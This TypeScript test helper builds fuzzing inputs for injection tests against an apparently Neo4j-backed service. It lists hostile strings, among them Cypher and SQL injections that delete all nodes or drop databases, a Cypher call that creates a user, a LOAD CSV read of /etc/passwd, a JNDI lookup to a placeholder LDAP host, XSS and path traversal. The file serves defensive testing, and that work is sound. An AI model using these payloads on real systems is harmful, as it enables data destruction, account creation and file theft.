import fc from 'fast-check';
import { expect } from 'vitest';

/**
 * Hostile strings for the injection tests (test/injection*.test.ts): quotes, backticks, Cypher
 * and SQL fragments, parameter and comment syntax, C0/C1 controls, NUL, bidi controls, zero-width
 * characters, lone and paired surrogates, noncharacters, template and prototype-pollution bait.
 */
export const FRAGMENTS: readonly string[] = [
  "'",
  '"',
  '`',
  '\\',
  "\\'",
  "''",
  '``',
  "' OR '1'='1",
  '" OR ""="',
  "'; DROP TABLE tickets; --",
  '1; DROP DATABASE neo4j',
  "') DETACH DELETE n //",
  "'}) MATCH (n) DETACH DELETE n //",
  '`) MATCH (n) DETACH DELETE n //',
  '`}]->(x) WITH x MATCH (n) DETACH DELETE n RETURN 1 //',
  '$id',
  '$rows',
  '{id: $ids}',
  'RETURN 1 UNION MATCH (n) RETURN n',
  "CALL dbms.security.createUser('x', 'y', false)",
  "LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l",
  'CALL apoc.cypher.run("MATCH (n) DETACH DELETE n", {})',
  'MATCH (n) SET n.state = "ARCHIVED"',
  ':param id => 1',
  '/*',
  '*/',
  '//',
  '--',
  '#',
  '%27',
  '&#39;',
  '\u0000',
  '\u0001',
  '\u0007',
  '\u001b[31m',
  '\u007f',
  '\u0085',
  '\u009b',
  '\r\n',
  '\n',
  '\r',
  '\t',
  '\u2028',
  '\u2029',
  '\u202e',
  '\u202d',
  '\u2066',
  '\u2069',
  '\u200e',
  '\u200f',
  '\u061c',
  '\u200b',
  '\u200d',
  '\ufeff',
  '\u00ad',
  '\ud800',
  '\udbff',
  '\udc00',
  '\udfff',
  '\ud83d',
  '\ud83d\ude00',
  '\udbff\udfff',
  '\ufffd',
  '\uffff',
  '\ufffe',
  '${jndi:ldap://x/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '__proto__',
  'constructor',
  'prototype',
  '%s%s%s%n',
  '../../etc/passwd',
  'null',
  'NaN',
  '[]',
  '{}',
  '{"$gt": ""}',
  'ＳＥＬＥＣＴ',
  '服务器宕机\'"`',
  'Ǆǅ',
  'ﬁ',
  'İı',
  'a\u0300\u0301\u0302',
  'concept:x',
  'Y29uY2VwdDp4',
];

/** Any UTF-16 code unit, lone surrogates included. */
const codeUnit = fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c));

/** One hostile string of up to a few hundred characters. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 4,
    arbitrary: fc
      .array(fc.constantFrom(...FRAGMENTS), { minLength: 1, maxLength: 6 })
      .map((parts) => parts.join('')),
  },
  { weight: 2, arbitrary: fc.string({ unit: codeUnit, minLength: 1, maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', minLength: 1, maxLength: 40 }) },
  {
    weight: 2,
    arbitrary: fc
      .tuple(
        fc.string({ unit: 'grapheme', maxLength: 12 }),
        fc.constantFrom(...FRAGMENTS),
        fc.string({ unit: codeUnit, maxLength: 12 }),
      )
      .map(([a, b, c]) => a + b + c),
  },
  { weight: 1, arbitrary: fc.constantFrom(...FRAGMENTS) },
);

/** A few strings of 1 MiB (characters), each a repeated hostile pattern; not for every run. */
export function megabyteStrings(): string[] {
  const size = 1 << 20;
  const fill = (pattern: string) => pattern.repeat(Math.ceil(size / pattern.length)).slice(0, size);
  return [
    fill("' OR 1=1 //`}) MATCH (n) DETACH DELETE n \u0000\u202e\ud800 服务器宕机 "),
    fill('x'),
    fill('\ud83d\ude00"\\'),
  ];
}

/** Counts the hostile strings pushed through each channel, for the run's report. */
export class Tally {
  private readonly counts = new Map<string, number>();

  add(channel: string, n = 1): void {
    this.counts.set(channel, (this.counts.get(channel) ?? 0) + n);
  }

  get total(): number {
    return [...this.counts.values()].reduce((a, b) => a + b, 0);
  }

  report(title: string): string {
    const rows = [...this.counts.entries()].sort((a, b) => b[1] - a[1]);
    const width = Math.max(...rows.map(([c]) => c.length), 8);
    return [
      `${title}: ${this.total} hostile strings pushed`,
      ...rows.map(([c, n]) => `  ${c.padEnd(width)} ${n}`),
    ].join('\n');
  }
}

/** Longest message a rejection may have (a reason, not an echo of the input). */
export const MAX_MESSAGE = 300;

/**
 * A rejection as a caller sees it: short, a reason rather than the input (a value longer than a
 * short preview is never repeated), and no stack frames.
 */
export function expectCleanMessage(message: string, input: string): void {
  expect(message.length).toBeLessThanOrEqual(MAX_MESSAGE);
  expect(message).not.toMatch(/\n\s+at /);
  if (input.length > 80) expect(message).not.toContain(input);
}

/** True when `value` (any JSON-like structure) contains the string `s` somewhere. */
export function containsString(value: unknown, s: string): boolean {
  if (typeof value === 'string') return value === s || value.includes(s);
  if (Array.isArray(value)) return value.some((v) => containsString(v, s));
  if (value !== null && typeof value === 'object')
    return Object.entries(value).some(([k, v]) => k === s || containsString(v, s));
  return false;
}
